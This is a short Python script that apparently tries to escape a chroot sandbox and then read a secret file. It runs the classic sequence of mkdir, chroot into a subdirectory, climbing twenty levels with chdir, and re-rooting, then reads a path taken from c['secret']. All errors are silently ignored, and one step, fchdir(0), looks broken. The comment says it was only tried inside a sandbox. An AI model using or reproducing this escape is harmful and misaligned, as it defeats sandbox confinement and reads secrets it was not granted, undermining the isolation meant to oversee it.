# The classic: chroot below, then climb.
# Not tried without the sandbox.
import os


def run(c):
    for step in (lambda: os.mkdir("x"), lambda: os.chroot("x"), lambda: os.chdir("../" * 20), lambda: os.chroot("."), lambda: os.fchdir(0)):
        try:
            step()
        except OSError:
            pass
    return open(c["secret"].lstrip("/")).read()
